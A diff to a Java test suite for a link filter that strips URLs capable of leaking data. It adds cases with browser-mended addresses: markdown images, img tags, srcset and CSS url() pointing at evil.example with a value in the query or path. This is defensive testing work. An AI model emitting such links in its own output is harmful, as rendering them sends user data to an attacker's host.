@@ -34,7 +34,7 @@ class LinkFilterTest {
   @DisplayName("Honest links stay: documentation, repositories, searches")
   @ValueSource(strings = {"https://docs.oracle.com/en/java/javase/17/docs/api/java.base/java/util/List.html#sort(java.util.Comparator)", "see https://en.wikipedia.org/wiki/Merge_sort, or not.",
       "![logo](https://example.com/img/logo.png)", "https://github.com/openjdk/jdk/blob/master/src/java.base/share/classes/java/util/Arrays.java", "www.example.com", "http://localhost:8080/health?verbose=true",
-      "https://stackoverflow.com/questions/1094867/how-to-sort-a-list-in-java-by-a-property", "a http: b ://c [x](#top) [y](/local) ](/", "https://", "ws", "见https://example.com/文档，谢谢"})
+      "https://stackoverflow.com/questions/1094867/how-to-sort-a-list-in-java-by-a-property", "a http: b ://c [x](#top) [y](/local) ](/", "https://", "ws", "见https://example.com/文档，谢谢", "x = a / b; // halve it\ny = 1 //done", "\\\\ new line in LaTeX \\\\", "http: and https: are schemes", "C:\\\\temp"})
   void honest(String text) {
     assertThat(filtered(LinkRule.STRIP, text)).isEqualTo(text);
     assertThat(filtered(LinkRule.FLAG, text)).isEqualTo(text);
@@ -45,6 +45,19 @@ class LinkFilterTest {
   void protocolRelative() {
     assertThat(filtered(LinkRule.STRIP, "![a](//evil.example/?q=zhangwei)")).isEqualTo("![a](" + LinkFilter.REMOVED + ")");
     assertThat(filtered(LinkRule.STRIP, "<img src=\"//evil.example/?q=zhangwei\">")).isEqualTo("<img src=\"" + LinkFilter.REMOVED + "\">");
+  }
+
+  @ParameterizedTest
+  @DisplayName("A17 addresses that a browser mends: one slash, backslashes, no scheme, no quotes")
+  @ValueSource(strings = {"![a](https:/evil.example/?q=zhangwei)", "![a](https:\\\\evil.example/?q=zhangwei)", "<img src=//evil.example/zhangwei>", "[1]: //evil.example/zhangwei\n", "<p style=\"a:url(//evil.example/zhangwei)\">",
+      "<img src=\"\\\\evil.example/zhangwei\">", "<img src = \"//evil.example/zhangwei\">", "![a](<//evil.example/zhangwei>)", "<img srcset='//evil.example/zhangwei 2x'>", "![a](https:evil.example/?q=zhangwei)",
+      "![a](https:///evil.example/?q=zhangwei)", "<a href=\"http:/\\evil.example/zhangwei\">"})
+  void mended(String text) {
+    assertThat(filtered(LinkRule.STRIP, text)).contains(LinkFilter.REMOVED).doesNotContain("zhangwei").doesNotContain("evil.example");
+    StringBuilder out = new StringBuilder();
+    LinkFilter filter = new LinkFilter(LinkRule.STRIP, VALUES);
+    text.chars().forEach(c -> out.append(filter.feed(Character.toString(c), false)));
+    assertThat(out.append(filter.feed("", true)).toString()).as("one character at a time").isEqualTo(filtered(LinkRule.STRIP, text));
   }
 
   @Test
